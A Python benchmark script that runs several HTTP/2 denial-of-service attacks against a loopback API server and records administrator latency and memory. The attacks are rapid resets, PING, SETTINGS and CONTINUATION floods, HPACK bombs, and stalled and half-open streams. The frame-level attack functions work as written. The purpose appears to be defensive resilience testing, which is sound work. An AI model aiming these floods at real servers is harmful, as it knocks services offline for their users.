#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Hostile clients of an API server that speaks HTTP/2, on loopback, and an administrator beside them.

  http2.py PORT IDENTITY SECONDS PID...

IDENTITY is a file with the administrator's certificate and key, which the hostile clients have, too: their requests are served. Each does
one thing again and again, with a new connection when the server has ended the last one. Prints one line of JSON: polls of the
administrator and how long they took (ms), how often each attack connected, and the memory of the processes (MiB).
"""
import json
import multiprocessing
import os
import socket
import ssl
import struct
import sys
import threading
import time

PORT, IDENTITY, SECONDS = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
PIDS = [int(pid) for pid in sys.argv[4:]]
POLL_EVERY = 0.05
THREADS = 4
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
PATH = b"/api/v1/configmaps"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value, kept=False):
    def text(some):
        size = bytes([len(some)]) if len(some) < 127 else bytes([127]) + varint(len(some) - 127)
        return size + some
    return (b"\x40" if kept else b"\0") + text(name) + text(value)


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def head(method=b"GET"):
    return (field(b":method", method) + field(b":scheme", b"https") + field(b":path", PATH) + field(b":authority", b"localhost"))


def context(http2):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE  # it is on loopback, and not what is measured
    made.load_cert_chain(IDENTITY)
    if http2:
        made.set_alpn_protocols(["h2"])
    return made


def connect(tls, source, settings=b""):
    plain = socket.create_connection(("127.0.0.1", PORT), 5, source_address=(source, 0))
    made = tls.wrap_socket(plain, server_hostname="localhost")
    made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
    return made


def streams(count=1000):
    return range(1, 2 * count, 2)


def resets(made):
    for first in range(1, 100_000, 100):
        made.sendall(b"".join(frame(HEADERS, 5, i, head()) + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in range(first, first + 100, 2)))


def pings(made):
    while True:
        made.sendall(frame(PING, 0, 0, b"12345678") * 500)


def settings(made):
    while True:
        made.sendall(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 500)


def continuations(made):
    made.sendall(frame(HEADERS, 1, 1, head()))
    while True:
        made.sendall(frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100)) * 100)


def bombs(made):
    made.sendall(frame(HEADERS, 5, 1, head() + field(b"x", b"x" * 4000, True)))
    for stream in streams()[1:]:
        made.sendall(frame(HEADERS, 5, stream, head() + b"\xbe" * 15_000))


def unread(made):
    # The window of streams is 0: 200 lists wait for it.
    made.sendall(b"".join(frame(HEADERS, 5, i, head()) for i in streams(200)))
    hold(made)


def half_open(made):
    made.sendall(b"".join(frame(HEADERS, 4, i, head(b"POST")) for i in streams(200)))
    hold(made)


def hold(made):
    until = time.monotonic() + 5
    while time.monotonic() < until:
        made.settimeout(max(0.01, until - time.monotonic()))
        if not made.recv(1 << 16):
            return


ATTACKS = {"resets": resets, "pings": pings, "settings": settings, "continuations": continuations, "bombs": bombs, "unread": unread,
           "half_open": half_open}


def attack(number, name, until, count):
    # They are on other machines, and take no processor from the server.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    tls = context(True)

    def again(thread):
        while time.monotonic() < until:
            try:
                made = connect(tls, f"127.1.{number + 1}.{thread + 1}", b"\0\4\0\0\0\0" if name == "unread" else b"")
                with count.get_lock():
                    count.value += 1
                ATTACKS[name](made)
            except (OSError, ValueError):
                pass

    for thread in range(THREADS):
        threading.Thread(target=again, args=(thread,), daemon=True).start()
    time.sleep(max(0, until - time.monotonic()))


def poll(tls):
    """Returns the milliseconds of one poll on a new connection by HTTP/1.1; none if it was not answered."""
    begin = time.monotonic()
    try:
        with tls.wrap_socket(socket.create_connection(("127.0.0.1", PORT), 10), server_hostname="localhost") as made:
            made.sendall(b"GET /api/v1/namespaces/default HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            if not made.recv(1 << 16).startswith(b"HTTP/1.1 200"):
                return None
    except OSError:
        return None
    return 1000 * (time.monotonic() - begin)


def memory():
    total = 0
    for pid in PIDS:
        with open(f"/proc/{pid}/status") as status:
            total += sum(int(line.split()[1]) for line in status if line.startswith("VmRSS"))
    return total / 1024


def fill(tls):
    """Makes 200 kB of ConfigMaps, so that a list costs something."""
    for number in range(20):
        body = json.dumps({"metadata": {"name": f"c{number}"}, "data": {"k": "x" * 10_000}}).encode()
        with tls.wrap_socket(socket.create_connection(("127.0.0.1", PORT), 10), server_hostname="localhost") as made:
            made.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                         b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            made.recv(1 << 16)


def main():
    tls = context(False)
    fill(tls)
    before = most = memory()
    until = time.monotonic() + SECONDS
    counts = {name: multiprocessing.Value("l", 0) for name in ATTACKS}
    for number, (name, count) in enumerate(counts.items()):
        multiprocessing.Process(target=attack, args=(number, name, until, count), daemon=True).start()
    times, polls = [], 0
    while time.monotonic() < until:
        took = poll(tls)
        polls += 1
        if took is not None:
            times.append(took)
        most = max(most, memory())
        time.sleep(POLL_EVERY)
    times.sort()
    at = lambda part: round(times[min(len(times) - 1, int(part * len(times)))], 2) if times else None
    print(json.dumps({"polls": polls, "answered": len(times), "p50_ms": at(0.5), "p99_ms": at(0.99), "most_ms": at(1),
                      "connections": {name: count.value for name, count in counts.items()},
                      "before_mib": round(before, 1), "most_mib": round(most, 1)}))


if __name__ == "__main__":
    main()
